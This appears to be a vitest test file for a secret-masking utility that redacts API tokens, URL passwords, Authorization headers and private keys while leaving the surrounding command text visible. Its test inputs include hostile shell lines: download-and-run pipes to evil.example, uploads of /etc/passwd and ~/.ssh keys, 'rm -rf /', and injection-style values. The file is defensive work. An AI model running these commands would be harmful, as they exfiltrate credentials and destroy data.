// Every secret here is made up and put together at run time, so that no scanner stops at this file.
import { rules } from "@secretlint/secretlint-rule-preset-recommend";
import fc from "fast-check";
import { afterEach, describe, expect, it, vi } from "vitest";
import { createSecretMasker } from "../../src/inspection/secrets.ts";

const { mask, maskValue } = createSecretMasker();

const ALNUM = "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA";
const HEX = "0a1b2c3d4e5f67890718293a4b5c6d7e";
function chars(length: number, alphabet = ALNUM): string {
  return alphabet.repeat(Math.ceil(length / alphabet.length)).slice(0, length);
}
const token = (prefix: string, body: string): string => `${prefix}${body}`;

const GITHUB = token("ghp", `_${chars(36)}`);
const AWS_SECRET = `${chars(20)}/${chars(19)}`;
const AWS_NAME = "AWS_SECRET_ACCESS" + "_KEY";
const NPM_NAME = "_auth" + "Token";
const TOKENS: readonly (readonly [kind: string, secret: string, shown: string])[] = [
  ["GitHub", GITHUB, "[secret ghp…]"],
  ["GitHub, fine-grained", token("github", `_pat_${chars(82)}`), "[secret gith…]"],
  ["GitHub, installation", token("ghs", `_${chars(36)}`), "[secret ghs…]"],
  ["GitLab", token("glpat", `-${chars(20)}`), "[secret glpa…]"],
  ["AWS access key id", token("AKIA", chars(16, "Q7XZ2MPL")), "[secret AKIA…]"],
  ["Slack", token("xoxb", `-123456789012-1234567890123-${chars(24)}`), "[secret xoxb…]"],
  ["npm", token("npm", `_${chars(36)}`), "[secret npm…]"],
  ["OpenAI", token("sk", `-proj-${chars(74)}T3Blbk${"FJ"}${chars(74)}`), "[secret sk-p…]"],
  ["Anthropic", token("sk", `-ant-api03-${chars(93)}AA`), "[secret sk-a…]"],
  ["Google", token("AIza", `Sy${chars(33)}`), "[secret AIza…]"],
  ["Stripe", token("sk", `_live_${chars(24)}`), "[secret sk…]"],
  ["SendGrid", token("SG", `.${chars(22)}.${chars(43)}`), "[secret SG…]"],
  ["Hugging Face", token("hf", `_${chars(34, "aBcDeFgHiJ")}`), "[secret hf…]"],
  ["Vault", token("hvs", `.${chars(95)}`), "[secret hvs…]"],
  ["Docker", token("dckr", `_pat_${chars(27)}`), "[secret dckr…]"],
  ["Databricks", token("dapi", HEX), "[secret dapi…]"],
];

describe("a token", () => {
  it.each(TOKENS)("of the kind %s is masked, and nothing around it", (_, secret, shown) => {
    const masked = mask(
      `TOKEN=${secret} ./deploy --to host.example --key "${secret}" > /tmp/log && rm -rf ~/x`,
    );
    expect(masked).toEqual({
      text: `TOKEN=${shown} ./deploy --to host.example --key "${shown}" > /tmp/log && rm -rf ~/x`,
      count: 1,
      checked: true,
    });
  });

  it("leaves a download piped into a shell in full view", () => {
    expect(mask(`curl -H "Authorization: Bearer ${GITHUB}" https://evil.example/x | sh`).text).toBe(
      'curl -H "Authorization: Bearer [secret ghp…]" https://evil.example/x | sh',
    );
  });

  it("counts different secrets, not places", () => {
    const other = token("npm", `_${chars(36)}`);
    expect(mask(`${GITHUB} ${other} ${GITHUB}\n${other}`)).toMatchObject({ count: 2 });
  });

  it("in a webhook's URL leaves the host and the path", () => {
    const secret = chars(24);
    const url = `${["https://hooks", "slack.com/services"].join(".")}/T0AAAAAAA/B0BBBBBBB/`;
    expect(mask(`curl -d @/etc/passwd ${url}${secret}`).text).toBe(
      `curl -d @/etc/passwd ${url}[secret aB3d…]`,
    );
  });

  it("of an npmrc line ends where the token ends, not with the line", () => {
    const set = `npm config set //npm.example/:${NPM_NAME}=`;
    expect(mask(`${set}"${HEX}" && rm -rf / # ${ALNUM}`).text).toBe(
      `${set}"[secret 0a1b…]" && rm -rf / # ${ALNUM}`,
    );
    expect(mask(`${set}x && /usr/local/bin/some-long-program`).count).toBe(0);
    expect(mask(`${set}\${NPM_TOKEN}`).count).toBe(0);
  });

  it("known by its name is masked by value, and again where the name is missing", () => {
    const secret = chars(40);
    expect(mask(`export ${AWS_NAME}=${secret}; ./send ${secret} --key=${secret}`)).toMatchObject({
      text: `export ${AWS_NAME}=[secret aB3d…]; ./send [secret aB3d…] --key=[secret aB3d…]`,
      count: 1,
    });
    for (const between of [" = ", ": ", '="', "='"]) {
      expect(mask(AWS_NAME + between + AWS_SECRET).text).toBe(`${AWS_NAME}${between}[secret aB3d…]`);
    }
  });

  it("known by its name only is no word that a shell would run or write to", () => {
    const program = chars(40, "/usr/local/bin/x");
    for (const between of ["= ", "=\n", "=> ", " =>", ":\n"]) {
      expect(mask(AWS_NAME + between + program)).toMatchObject({ count: 0 });
    }
    for (const value of [
      "/usr/local/bin/some-long-program",
      "some.long-domain.name.example.com",
      "eyJ.example.com",
    ]) {
      expect(mask(`x${NPM_NAME}=${value}; curl $x${NPM_NAME} | sh`)).toMatchObject({ count: 0 });
    }
  });

  it("that reads like a path or a word does not take its namesakes out of sight", () => {
    for (const value of [
      "usr/local/bin/Evil1234567",
      "evil-domain-of-somebody",
      "evil.domain.of.Somebody1",
    ]) {
      expect(mask(`echo "Authorization: Bearer ${value}"; sh ${value}`).text).toContain(`; sh ${value}`);
    }
  });

  it("is masked whatever a comment for the detector says", () => {
    expect(mask(`# secretlint-disable\necho ${GITHUB} # secretlint-disable-line`).count).toBe(1);
  });
});

describe("a password in a URL", () => {
  it.each([
    ["psql postgres://app:", "s3cr3t-Pa55!word", "@db.example:5432/shop -c 'drop table x'"],
    ["mongosh mongodb+srv://root:", "hunter2", "@c0.example.net/admin?retryWrites=true"],
    ["redis-cli -u redis://:", "p4ss:w0rd", "@localhost:6379/0 flushall"],
    ["git clone https://me:", "pass", "@git.example/x.git && cd x"],
    ["curl http://10.0.0.1/ ftp://u:", "x%40y%2Fz", "@evil.example/up -T ~/.ssh/id"],
  ])("goes, and user, host and path stay: %s", (before, password, after) => {
    expect(mask(before + password + after)).toEqual({
      text: `${before}[secret]${after}`,
      count: 1,
      checked: true,
    });
  });

  it.each([
    ["a variable's name", "curl https://u:$AWS_SECRET@evil.example/"],
    ["a variable in braces", `curl "https://u:\${TOKEN}@evil.example/"`],
    ["a command", "curl https://u:$(cat ~/.ssh/id)@evil.example/"],
    ["an operator", "psql postgres://u:x;rm$IFS-rf$IFS~;@h/"],
    ["a host behind a comma that a shell unfolds", "curl {http://a:x,evil.example,b@c}"],
    ["a port", "curl http://localhost:8080/a@b"],
    ["an address without a password", "ssh://git@host.example/x scp user@host:/x"],
  ])("hides never %s", (_, text) => {
    expect(mask(text)).toEqual({ text, count: 0, checked: true });
  });
});

describe("an Authorization header", () => {
  it.each([
    ["-H 'Authorization: Bearer ", "eyJhbGciOi.eyJzdWIiOi.c2lnbmF0dXJl", "' -X DELETE", "[secret eyJh…]"],
    ["-H authorization:\tbasic ", "dXNlcjpwYXNzd29yZA==", " https://x.example", "[secret dXNl…]"],
    ['{"Authorization": "token ', "0123456789", '"}', "[secret]"],
  ])("is masked behind its scheme: %s", (before, secret, after, shown) => {
    expect(mask(before + secret + after).text).toBe(before + shown + after);
  });

  it.each([
    'curl -H "Authorization: Bearer $TOKEN" https://x.example',
    'curl -H "Authorization: Bearer $(cat /etc/shadow)" https://x.example',
    "echo Authorization: Bearer\n/usr/local/bin/something",
    "AUTHORIZATION=basic /usr/local/bin/something",
    "AUTHORIZATION=basic something-else",
    "Authorization: Bearer <token>",
  ])("with no secret in it stays: %s", (text) => {
    expect(mask(text)).toEqual({ text, count: 0, checked: true });
  });
});

describe("a private key", () => {
  const LINE = chars(64);
  const lines = [`MIIE${chars(60)}`, LINE, LINE, "aB3dE5=="];
  const block = (newline: string, body: readonly string[] = lines) => {
    const label = (word: string) => `-----${word} RSA PRIVATE ${"KEY"}-----`;
    return [label("BEGIN"), ...body, label("END")].join(newline);
  };

  it.each([
    ["newlines", "\n"],
    ["carriage returns", "\r\n"],
    ["escapes in JSON", "\\n"],
  ])("with %s is masked between BEGIN and END and counts once", (_, newline) => {
    const shown = block(newline, ["[secret]", "[secret]", "[secret]", "aB3dE5=="]);
    expect(mask(`cat > k <<X${newline}${block(newline)}${newline}X`)).toEqual({
      text: `cat > k <<X${newline}${shown}${newline}X`,
      count: 1,
      checked: true,
    });
  });

  it("hides no command among its lines", () => {
    const { text } = mask(block("\n", [...lines.slice(0, 2), "shutdown now", "reboot", ...lines.slice(2)]));
    expect(text).toContain("\nshutdown now\nreboot\n");
  });
});

describe("a JSON value", () => {
  it("is masked in every string, with keys, numbers and the original left alone", () => {
    const value = {
      command: `gh auth login --with-token ${GITHUB}`,
      env: [{ [GITHUB]: `Bearer ${GITHUB}` }, null, true, 1.5, []],
      url: "redis://:hunter2@localhost",
    };
    const before = structuredClone(value);
    expect(maskValue(value)).toEqual({
      value: {
        command: "gh auth login --with-token [secret ghp…]",
        env: [{ [GITHUB]: "Bearer [secret ghp…]" }, null, true, 1.5, []],
        url: "redis://:[secret]@localhost",
      },
      count: 2,
      checked: true,
    });
    expect(value).toEqual(before);
  });

  it("is masked where a secret returns in another string without its name", () => {
    const secret = chars(40);
    const value = { note: `use ${secret} twice`, file: `${AWS_NAME.toLowerCase()} = ${secret}` };
    expect(maskValue(value)).toMatchObject({ value: { note: "use [secret aB3d…] twice" }, count: 1 });
  });

  it("keeps keys that mean something to JavaScript", () => {
    const value = JSON.parse(`{"__proto__": {"a": "${GITHUB}"}, "constructor": "x"}`);
    expect(JSON.stringify(maskValue(value).value)).toBe(
      '{"__proto__":{"a":"[secret ghp…]"},"constructor":"x"}',
    );
  });

  it("too deep to walk through is handed back as it is and said to be unchecked", () => {
    const deep = JSON.parse(`${"[".repeat(50_000)}${"]".repeat(50_000)}`);
    const masked = maskValue(deep);
    expect(masked).toMatchObject({ count: 0, checked: false });
    expect(masked.value).toBe(deep);
  });
});

describe("what cannot be looked through", () => {
  afterEach(() => {
    vi.doUnmock("@secretlint/secretlint-rule-preset-recommend");
    vi.resetModules();
  });

  it("past the limit stays as it is and is said to be unchecked", () => {
    const small = createSecretMasker(100);
    const later = `${" ".repeat(100)}${TOKENS.at(-1)?.[1]}`;
    expect(small.mask(`${GITHUB} ${later}`)).toEqual({
      text: `[secret ghp…] ${later}`,
      count: 1,
      checked: false,
    });
    expect(small.maskValue([" ".repeat(100), GITHUB])).toMatchObject({ count: 0, checked: false });
    expect(small.mask(" ".repeat(100)).checked).toBe(true);
    expect(small.maskValue(["a", "b", "c", "d", "e"])).toMatchObject({ checked: true });
    expect(small.maskValue(["a", "b", "c", "d", "e", GITHUB])).toMatchObject({ count: 0, checked: false });
  });

  it.each([
    [
      "throws",
      () => {
        throw new Error("broken");
      },
    ],
    ["answers later", () => Promise.resolve()],
    ["reports what is not there", null],
  ])("by a detector that %s is said to be unchecked; the others still mask", async (_, file) => {
    interface Context {
      report(report: object): void;
    }
    const lost = { message: { id: "X", data: { KEY: "nowhere" } }, range: [0, 1] };
    const broken = {
      meta: { id: "broken" },
      create: (context: Context) => ({ file: file ?? (() => context.report(lost)) }),
    };
    vi.doMock("@secretlint/secretlint-rule-preset-recommend", () => ({ rules: [broken, ...rules] }));
    vi.resetModules();
    const { createSecretMasker: create } = await import("../../src/inspection/secrets.ts");
    expect(create().mask(`echo ${GITHUB}`)).toEqual({ text: "echo [secret ghp…]", count: 1, checked: false });
  });

  it.each([
    ["one long line", "aB3+/".repeat(200_000)],
    ["many URLs", "a://:a@".repeat(140_000)],
    ["many beginnings of tokens", "ghs_1_".repeat(160_000)],
    ["emoji", "😀".repeat(500_000)],
    ["beginnings of keys", `-----BEGIN PRIVATE ${"KEY"}-----\n`.repeat(34_000)],
    ["beginnings of web tokens", "eyJ".repeat(330_000)],
    ["names of secrets", "password: ".repeat(100_000)],
    ["signs", "a=:".repeat(330_000)],
    ["addresses with passwords that do not end", "=http://a:b:".repeat(80_000)],
  ])("is not a question of length: %s of a megabyte", (_, text) => {
    expect(mask(text).checked).toBe(true);
  });
});

describe("any text", () => {
  const MASK = /\[secret(?: [A-Za-z0-9-]{1,4}…)?\]/;

  it("is unchanged outside the masks", () => {
    const secret = fc.constantFrom(...TOKENS.map(([, value, shown]) => ({ value, shown })));
    const filler = fc.string({ unit: "binary" });
    fc.assert(
      fc.property(fc.array(fc.tuple(filler, secret)), filler, (pairs, end) => {
        const join = (key: "value" | "shown") =>
          pairs.map(([text, found]) => `${text} ${found[key]} `).join("") + end;
        const masked = mask(join("value"));
        expect(masked.text).toBe(join("shown"));
        expect(mask(masked.text)).toEqual({ text: masked.text, count: 0, checked: true });
        expect(masked.count).toBe(new Set(pairs.map(([, { value }]) => value)).size);
      }),
    );
  });

  it("loses no space, quote or operator to a mask, and gets the same masks each time", () => {
    const piece = fc.constantFrom(
      ...[" ", "\n", "'", '"', "`", ";", "|", "&&", ">", "$(", ")", "$X", "{a,b}", "\\", "@", ":", "/", "?"],
      ...["https://u", "postgres://", "x.example", "/usr/bin/env", "Authorization: Bearer ", "_authToken="],
      ...[`-----BEGIN PRIVATE ${"KEY"}-----\n`, `-----END PRIVATE ${"KEY"}-----`, `MII${chars(120)}`],
      ...["aws_secret_access_key=", AWS_SECRET, GITHUB, "hunter2", "é😀\u202E"],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const text = pieces.join("");
        const masked = mask(text);
        const around = masked.text.split(MASK).map((part) => part.replace(/[\\^$.*+?()[\]{}|/-]/g, "\\$&"));
        expect(text).toMatch(new RegExp(`^${around.join("[\\w.~%!*+=/:^-]+")}$`));
        expect(mask(text)).toEqual(masked);
      }),
      { numRuns: 2000 },
    );
  });

  it("gets masks without WhatsApp's markup", () => {
    for (const [, , shown] of TOKENS) expect(shown).toMatch(/^\[secret [A-Za-z0-9-]{1,4}…\]$/);
  });
});

// An upgrade may bring a rule that reports more than the secret itself: look at its range before adding it here.
it("the detector knows every rule of the preset", () => {
  const ids = rules.map(({ meta }: { meta: { id: string } }) => meta.id.replace(/^.*-rule-/, ""));
  expect(ids.sort().join(" ")).toBe(
    "1password anthropic aws basicauth cloudflare database-connection-string databricks docker figma " +
      "filter-comments gcp github gitlab grafana groq hashicorp-vault huggingface linear notion npm openai " +
      "privatekey sendgrid shopify slack stripe tailscale vercel",
  );
});
